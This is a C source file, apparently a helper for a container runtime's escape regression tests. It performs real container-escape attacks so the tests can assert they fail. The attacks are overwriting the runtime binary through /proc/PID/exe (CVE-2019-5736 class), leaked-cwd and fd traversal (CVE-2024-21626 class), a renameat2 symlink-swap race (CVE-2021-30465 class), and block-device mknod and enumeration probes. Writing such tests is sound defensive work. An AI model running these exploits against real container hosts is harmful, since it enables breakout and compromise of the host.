/*
 * attack-rt: the hostile side of tests/integration/61-escapes.sh.
 *
 * A tiny static program that performs container-escape attacks for real,
 * so the tests can assert they fail. It runs inside a container (copied
 * into the rootfs) or on the host (the `flip` racer). Output is one
 * `key=value` per line, written with write(2) so it is visible at once.
 *
 * Build: gcc -static -O2 -Wall -Wextra -Werror -o attack-rt attack-rt.c
 *
 *   exe-race SECONDS MARKER OWN...   CVE-2019-5736 class: watch for every new
 *       process in this pid namespace whose /proc/PID/exe is not one of the
 *       OWN files (so: the runtime's binary), keep an O_PATH fd to it and
 *       try to reopen it for writing until SECONDS pass (the runtime exits
 *       meanwhile, so ETXTBSY ends). Writes "PWNED" at its start on success.
 *       Also tries /proc/PID/cwd, root and fd/N of those processes as a way to
 *       the host: a directory from which ../../.. reaches MARKER (a host
 *       path that does not exist inside the container) is an escape.
 *       Prints ready, then at the end: seen denied captured overwritten
 *       escaped (and via=... on success). Runs until both attacks have
 *       worked or SECONDS pass.
 *   escape-cwd MARKER    CVE-2024-21626 class: cwd=getcwd(), and whether
 *       ../../..(x64)/MARKER opens from the working directory (escaped=1).
 *   flip SECONDS DIR TARGET   CVE-2021-30465 class (run on the host): make
 *       DIR.sym -> TARGET and exchange DIR and DIR.sym with renameat2
 *       RENAME_EXCHANGE as fast as possible, until SECONDS pass or DIR.stop
 *       exists; restores DIR at the end. Prints flips=N.
 *   mknod-block PATH MAJOR MINOR   mknod=ok|ERRNO open=ok|ERRNO (then unlink)
 *   blockdevs            every block device node under / (not /proc, /sys):
 *       dev=PATH MAJ:MIN open=ok|ERRNO, then count=N
 *   writable PATH        writable=ok|ERRNO: open(O_WRONLY) and close, never
 *       a write (safe on /proc/sys files of the host)
 *   fstype PATH          fstype=proc|sysfs|tmpfs|0xMAGIC of statfs(PATH)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static void out(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void out(const char *fmt, ...)
{
	char buf[4096];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n >= sizeof(buf))
		n = sizeof(buf) - 1;
	for (char *p = buf; n > 0;) {
		ssize_t w = write(1, p, (size_t)n);
		if (w < 0 && errno == EINTR)
			continue;
		if (w <= 0)
			return;
		p += w;
		n -= (int)w;
	}
}

static const char *errname(int e)
{
	switch (e) {
	case 0: return "ok";
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	case EIO: return "EIO";
	case ENXIO: return "ENXIO";
	case EBADF: return "EBADF";
	case EACCES: return "EACCES";
	case EBUSY: return "EBUSY";
	case EEXIST: return "EEXIST";
	case ENODEV: return "ENODEV";
	case ENOTDIR: return "ENOTDIR";
	case EISDIR: return "EISDIR";
	case EINVAL: return "EINVAL";
	case ETXTBSY: return "ETXTBSY";
	case EROFS: return "EROFS";
	case ELOOP: return "ELOOP";
	case ENOSYS: return "ENOSYS";
	case EXDEV: return "EXDEV";
	default: {
		static char buf[32];
		snprintf(buf, sizeof(buf), "E%d", e);
		return buf;
	}
	}
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* "../" 64 times then the marker without its leading slashes */
static char *up_path(const char *marker)
{
	static char buf[PATH_MAX];
	size_t n = 0;

	for (int i = 0; i < 64; i++) {
		memcpy(buf + n, "../", 3);
		n += 3;
	}
	while (*marker == '/')
		marker++;
	snprintf(buf + n, sizeof(buf) - n, "%s", marker);
	return buf;
}

/* Does the directory fd lead to MARKER by going up? */
static int escapes_from(int dirfd, const char *marker)
{
	int fd = openat(dirfd, up_path(marker), O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return 0;
	close(fd);
	return 1;
}

/* ---- exe-race ---- */

#define MAXP 4096

struct target {
	pid_t pid;
	int done;     /* nothing more to try on this pid */
	int exe_fd;   /* O_PATH fd on its foreign exe, -1 if none */
	int written;  /* overwrite succeeded */
	int last_err; /* last errno of the write attempt */
};

static struct target targets[MAXP];
static int ntargets;
static dev_t own_dev[64];
static ino_t own_ino[64];
static int nown;
static int seen, denied, captured, overwritten, escaped;
static char via[320];

static int is_own(const struct stat *st)
{
	for (int i = 0; i < nown; i++)
		if (own_dev[i] == st->st_dev && own_ino[i] == st->st_ino)
			return 1;
	return 0;
}

static struct target *target_of(pid_t pid, int create)
{
	for (int i = 0; i < ntargets; i++)
		if (targets[i].pid == pid)
			return &targets[i];
	if (!create || ntargets == MAXP)
		return NULL;
	targets[ntargets] = (struct target){ .pid = pid, .exe_fd = -1 };
	return &targets[ntargets++];
}

static void try_dirs(pid_t pid, const char *marker)
{
	static const char *const names[] = { "cwd", "root" };
	char path[64];
	DIR *d;
	struct dirent *de;

	for (size_t i = 0; i < 2 && !escaped; i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (escapes_from(fd, marker)) {
			escaped = 1;
			snprintf(via, sizeof(via), "%s", path);
		}
		close(fd);
	}
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	if (d == NULL)
		return;
	while (!escaped && (de = readdir(d)) != NULL) {
		char p2[300];
		if (de->d_name[0] == '.')
			continue;
		snprintf(p2, sizeof(p2), "/proc/%d/fd/%s", pid, de->d_name);
		int fd = open(p2, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (escapes_from(fd, marker)) {
			escaped = 1;
			snprintf(via, sizeof(via), "%s", p2);
		}
		close(fd);
	}
	closedir(d);
}

/* One look at pid: returns 1 if the pid exists. */
static int probe(pid_t pid, const char *marker)
{
	char path[64];
	struct stat st;
	struct target *t;
	int fd;

	if (pid == getpid())
		return 1;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		if (errno == ENOENT || errno == ESRCH) {
			/* gone, or a zombie / kernel thread without exe */
			struct stat s2;
			snprintf(path, sizeof(path), "/proc/%d", pid);
			return stat(path, &s2) == 0;
		}
		t = target_of(pid, 1);
		if (t && t->exe_fd < 0 && !t->done) {
			if (t->last_err == 0)
				denied++;
			t->last_err = errno;
		}
		return 1;
	}
	t = target_of(pid, 1);
	if (t == NULL || t->done || t->exe_fd >= 0) {
		close(fd);
		return 1;
	}
	if (fstat(fd, &st) == 0 && is_own(&st)) {
		/* already our own program: nothing to take */
		t->done = 1;
		close(fd);
		return 1;
	}
	seen++;
	captured++;
	t->exe_fd = fd;
	t->last_err = 0;
	try_dirs(pid, marker);
	return 1;
}

static void try_write(struct target *t)
{
	char path[64];
	int fd;

	if (t->exe_fd < 0 || t->written)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", t->exe_fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		t->last_err = errno;
		return;
	}
	if (pwrite(fd, "PWNED", 5, 0) == 5) {
		t->written = 1;
		overwritten++;
		snprintf(via, sizeof(via), "/proc/%d/exe", t->pid);
	} else {
		t->last_err = errno;
	}
	close(fd);
}

static int cmd_exe_race(int argc, char **argv)
{
	double secs, end;
	const char *marker;
	pid_t maxpid = getpid();
	unsigned long iter = 0;

	if (argc < 4)
		return 2;
	secs = atof(argv[1]);
	marker = argv[2];
	for (int i = 3; i < argc && nown < 64; i++) {
		struct stat st;
		if (stat(argv[i], &st) == 0) {
			own_dev[nown] = st.st_dev;
			own_ino[nown++] = st.st_ino;
		}
	}
	{
		struct stat st;
		if (stat("/proc/self/exe", &st) == 0) {
			own_dev[nown] = st.st_dev;
			own_ino[nown++] = st.st_ino;
		}
	}
	out("ready\n");
	end = now() + secs;
	while (now() < end && !(overwritten && escaped)) {
		/* the next pids are the likely new ones: spin on them */
		for (pid_t p = maxpid + 1; p <= maxpid + 6; p++)
			if (probe(p, marker) && p > maxpid)
				maxpid = p;
		/* retry the live, not yet captured ones (their caps may drop) */
		for (int i = 0; i < ntargets; i++)
			if (!targets[i].done && targets[i].exe_fd < 0)
				if (!probe(targets[i].pid, marker))
					targets[i].done = 1;
		if (++iter % 32 == 0) {
			DIR *d = opendir("/proc");
			struct dirent *de;
			while (d && (de = readdir(d)) != NULL) {
				pid_t p = (pid_t)atoi(de->d_name);
				if (p <= 0)
					continue;
				probe(p, marker);
				if (p > maxpid)
					maxpid = p;
			}
			if (d)
				closedir(d);
			for (int i = 0; i < ntargets; i++)
				try_write(&targets[i]);
		}
	}
	for (int i = 0; i < ntargets && !overwritten; i++)
		try_write(&targets[i]);
	out("seen=%d\ndenied=%d\ncaptured=%d\n", seen, denied, captured);
	for (int i = 0; i < ntargets; i++)
		if (targets[i].exe_fd >= 0 && !targets[i].written)
			out("write_error=%d:%s\n", targets[i].pid, errname(targets[i].last_err));
	out("overwritten=%d\nescaped=%d\n", overwritten, escaped);
	if (via[0])
		out("via=%s\n", via);
	out("done\n");
	return 0;
}

/* ---- escape-cwd ---- */

static int cmd_escape_cwd(int argc, char **argv)
{
	char cwd[PATH_MAX];
	int fd;

	if (argc < 2)
		return 2;
	if (getcwd(cwd, sizeof(cwd)) == NULL)
		snprintf(cwd, sizeof(cwd), "error:%s", errname(errno));
	out("cwd=%s\n", cwd);
	fd = open(up_path(argv[1]), O_RDONLY | O_CLOEXEC);
	out("escaped=%d\n", fd >= 0);
	if (fd >= 0)
		close(fd);
	return 0;
}

/* ---- flip ---- */

static volatile sig_atomic_t stop;
static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static int cmd_flip(int argc, char **argv)
{
	char sym[PATH_MAX], stopf[PATH_MAX];
	double end;
	unsigned long flips = 0;
	struct stat st;

	if (argc < 4)
		return 2;
	end = now() + atof(argv[1]);
	snprintf(sym, sizeof(sym), "%s.sym", argv[2]);
	snprintf(stopf, sizeof(stopf), "%s.stop", argv[2]);
	unlink(sym);
	if (symlink(argv[3], sym) < 0) {
		out("error=symlink:%s\n", errname(errno));
		return 1;
	}
	signal(SIGTERM, on_term);
	out("ready\n");
	while (!stop && now() < end) {
		for (int i = 0; i < 256; i++)
			if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, sym, RENAME_EXCHANGE) == 0)
				flips++;
		if (access(stopf, F_OK) == 0)
			break;
	}
	/* leave DIR a directory again */
	if (lstat(argv[2], &st) == 0 && S_ISLNK(st.st_mode))
		syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, sym, RENAME_EXCHANGE);
	unlink(sym);
	out("flips=%lu\n", flips);
	return 0;
}

/* ---- devices ---- */

static int cmd_mknod_block(int argc, char **argv)
{
	int fd, e;

	if (argc < 4)
		return 2;
	if (mknod(argv[1], S_IFBLK | 0600, makedev(atoi(argv[2]), atoi(argv[3]))) < 0) {
		out("mknod=%s\n", errname(errno));
		return 0;
	}
	out("mknod=ok\n");
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	e = errno;
	out("open=%s\n", fd >= 0 ? "ok" : errname(e));
	if (fd >= 0) {
		char buf[512];
		ssize_t n = read(fd, buf, sizeof(buf));
		out("read=%s\n", n >= 0 ? "ok" : errname(errno));
		close(fd);
	}
	unlink(argv[1]);
	return 0;
}

static int nblock;
static void walk(const char *dir, int depth)
{
	DIR *d;
	struct dirent *de;

	if (depth > 12 || strcmp(dir, "/proc") == 0 || strcmp(dir, "/sys") == 0)
		return;
	d = opendir(dir);
	if (d == NULL)
		return;
	while ((de = readdir(d)) != NULL) {
		char p[PATH_MAX];
		struct stat st;
		if (strcmp(de->d_name, ".") == 0 || strcmp(de->d_name, "..") == 0)
			continue;
		snprintf(p, sizeof(p), "%s/%s", strcmp(dir, "/") == 0 ? "" : dir, de->d_name);
		if (lstat(p, &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode))
			walk(p, depth + 1);
		else if (S_ISBLK(st.st_mode)) {
			int fd = open(p, O_RDONLY | O_CLOEXEC);
			out("dev=%s %u:%u open=%s\n", p, major(st.st_rdev), minor(st.st_rdev),
			    fd >= 0 ? "ok" : errname(errno));
			if (fd >= 0)
				close(fd);
			nblock++;
		}
	}
	closedir(d);
}

static int cmd_blockdevs(void)
{
	walk("/", 0);
	out("count=%d\n", nblock);
	return 0;
}

static int cmd_writable(int argc, char **argv)
{
	int fd;

	if (argc < 2)
		return 2;
	fd = open(argv[1], O_WRONLY | O_CLOEXEC);
	out("writable=%s\n", fd >= 0 ? "ok" : errname(errno));
	if (fd >= 0)
		close(fd);
	return 0;
}

static int cmd_fstype(int argc, char **argv)
{
	struct statfs sfs;

	if (argc < 2)
		return 2;
	if (statfs(argv[1], &sfs) < 0) {
		out("fstype=error:%s\n", errname(errno));
		return 0;
	}
	switch ((unsigned long)sfs.f_type) {
	case 0x9fa0: out("fstype=proc\n"); break;
	case 0x62656572: out("fstype=sysfs\n"); break;
	case 0x01021994: out("fstype=tmpfs\n"); break;
	default: out("fstype=0x%lx\n", (unsigned long)sfs.f_type);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		goto usage;
	if (strcmp(argv[1], "exe-race") == 0)
		return cmd_exe_race(argc - 1, argv + 1);
	if (strcmp(argv[1], "escape-cwd") == 0)
		return cmd_escape_cwd(argc - 1, argv + 1);
	if (strcmp(argv[1], "flip") == 0)
		return cmd_flip(argc - 1, argv + 1);
	if (strcmp(argv[1], "mknod-block") == 0)
		return cmd_mknod_block(argc - 1, argv + 1);
	if (strcmp(argv[1], "blockdevs") == 0)
		return cmd_blockdevs();
	if (strcmp(argv[1], "writable") == 0)
		return cmd_writable(argc - 1, argv + 1);
	if (strcmp(argv[1], "fstype") == 0)
		return cmd_fstype(argc - 1, argv + 1);
usage:
	out("usage: attack-rt exe-race|escape-cwd|flip|mknod-block|blockdevs|writable|fstype ARGS (see the source)\n");
	return 2;
}
